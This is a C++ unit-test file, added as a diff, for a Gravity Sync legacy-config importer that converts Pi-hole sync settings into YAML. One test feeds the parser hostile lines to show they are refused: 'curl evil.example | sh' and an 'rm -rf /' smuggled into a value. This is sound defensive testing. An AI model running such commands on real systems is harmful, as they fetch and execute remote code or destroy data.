@@ -1,0 +1,101 @@
+#include <gtest/gtest.h>
+
+#include "gravity_sync/config/config.hpp"
+#include "gravity_sync/legacy/import.hpp"
+
+namespace gs {
+namespace {
+
+const char* kConf = R"(# REQUIRED SETTINGS ######################
+
+# Primary Pi-hole host (in IP or DNS name)
+REMOTE_HOST='192.168.1.10'
+
+# User account on primary with SUDO rights
+REMOTE_USER="root"
+GS_SSH_PORT=2222
+export GS_SSH_PKIF='/etc/gravity-sync/gravity-sync.rsa'   # the key
+LOCAL_FILE_OWNER='pihole:pihole'
+REMOTE_PIHOLE_DIRECTORY='/srv/pihole'
+MY_OWN_SETTING=1
+)";
+
+TEST(Legacy, ReadsAssignmentsAsData) {
+  auto c = parse_legacy_config(kConf, "gs.conf", {});
+  ASSERT_TRUE(c.ok()) << c.error().message;
+  EXPECT_EQ(c->values.at("REMOTE_HOST"), "192.168.1.10");
+  EXPECT_EQ(c->values.at("REMOTE_USER"), "root");
+  EXPECT_EQ(c->values.at("GS_SSH_PORT"), "2222");
+  EXPECT_EQ(c->values.at("GS_SSH_PKIF"), "/etc/gravity-sync/gravity-sync.rsa");
+  EXPECT_EQ(c->unknown, std::vector<std::string>{"MY_OWN_SETTING"});
+  EXPECT_EQ(c->ignored, std::vector<std::string>{"LOCAL_FILE_OWNER"});
+}
+
+TEST(Legacy, TheYamlItMakesIsValidAndCarriesTheValues) {
+  auto c = parse_legacy_config(kConf, "gs.conf", {});
+  const std::string yaml = legacy_to_yaml(*c, "/etc/gravity-sync/known_hosts");
+  Config cfg = parse_config(yaml, "out.yaml");
+  EXPECT_EQ(cfg.remote.host, "192.168.1.10");
+  EXPECT_EQ(cfg.remote.port, 2222);
+  EXPECT_EQ(cfg.remote.user, "root");
+  EXPECT_EQ(cfg.remote.identity_file, "/etc/gravity-sync/gravity-sync.rsa");
+  EXPECT_EQ(cfg.remote.layout.pihole_dir, "/srv/pihole");
+  EXPECT_EQ(cfg.local.pihole_dir, "/etc/pihole");
+}
+
+TEST(Legacy, TheEnvironmentFillsWhatTheFileLacks) {
+  auto c = parse_legacy_config("REMOTE_USER='root'\n", "gs.conf", {{"REMOTE_HOST", "10.0.0.2"}, {"GS_SSH_PORT", "2200"}});
+  ASSERT_TRUE(c.ok());
+  EXPECT_EQ(c->values.at("REMOTE_HOST"), "10.0.0.2");
+  EXPECT_EQ(parse_config(legacy_to_yaml(*c, "/k"), "x").remote.port, 2200);
+  auto file_wins = parse_legacy_config("REMOTE_HOST='a.lan'\n", "gs.conf", {{"REMOTE_HOST", "b.lan"}});
+  EXPECT_EQ(file_wins->values.at("REMOTE_HOST"), "a.lan");
+}
+
+TEST(Legacy, AnythingButAssignmentsIsRefusedNeverRun) {
+  auto cmd = parse_legacy_config("REMOTE_HOST='a'\ncurl evil.example | sh\n", "gs.conf", {});
+  ASSERT_FALSE(cmd.ok());
+  EXPECT_EQ(cmd.error().code, ExitCode::usage);
+  EXPECT_EQ(cmd.error().message,
+            "gs.conf:2: not a NAME=value line (the file is read as data, never run): curl evil.example | sh");
+  EXPECT_FALSE(parse_legacy_config("REMOTE_HOST='a'; rm -rf /\n", "gs.conf", {}).ok());
+  EXPECT_FALSE(parse_legacy_config("REMOTE_HOST='unterminated\n", "gs.conf", {}).ok());
+  auto expansion = parse_legacy_config("REMOTE_HOST='a'\nGS_SSH_PKIF=\"${GS_ETC_PATH}/key\"\n", "gs.conf", {});
+  ASSERT_TRUE(expansion.ok());
+  EXPECT_EQ(expansion->values.at("GS_SSH_PKIF"), "${GS_ETC_PATH}/key");
+  EXPECT_EQ(expansion->warnings.size(), 1u);
+}
+
+TEST(Legacy, RemoteHostIsRequired) {
+  auto c = parse_legacy_config("REMOTE_USER='pi'\n", "gs.conf", {});
+  ASSERT_FALSE(c.ok());
+  EXPECT_EQ(c.error().message, "gs.conf: REMOTE_HOST is not set (in the file or the environment)");
+}
+
+TEST(Legacy, ContainersAndNonRootUsersAreCarriedAsCommentsNotSilently) {
+  auto c = parse_legacy_config("REMOTE_HOST='a'\nREMOTE_USER='pi'\nREMOTE_PIHOLE_TYPE='docker'\n"
+                               "REMOTE_DOCKER_CONTAINER='pihole'\n", "gs.conf", {});
+  const std::string yaml = legacy_to_yaml(*c, "/k");
+  EXPECT_NE(yaml.find("# sudo: true"), std::string::npos) << yaml;
+  EXPECT_NE(yaml.find("# container: \"docker:pihole\""), std::string::npos) << yaml;
+  EXPECT_NO_THROW(parse_config(yaml, "x"));
+}
+
+TEST(Legacy, KnownHostLinesMatchPlainBracketedAndHashedNames) {
+  // Hashed entries (ssh-keygen -H) are covered end to end in e2e/legacy_test.cpp.
+  const std::string text =
+      "192.168.1.10 ssh-ed25519 AAAAplain\n"
+      "[192.168.1.10]:2222 ssh-ed25519 AAAAport\n"
+      "other.lan,192.168.1.10 ssh-rsa AAAAlist\n"
+      "# comment\n"
+      "10.0.0.9 ssh-ed25519 AAAAother\n";
+  auto plain = known_host_lines(text, "192.168.1.10", 22);
+  ASSERT_EQ(plain.size(), 2u);
+  EXPECT_EQ(plain[0], "192.168.1.10 ssh-ed25519 AAAAplain");
+  auto port = known_host_lines(text, "192.168.1.10", 2222);
+  ASSERT_EQ(port.size(), 1u);
+  EXPECT_EQ(port[0], "[192.168.1.10]:2222 ssh-ed25519 AAAAport");
+}
+
+}  // namespace
+}  // namespace gs
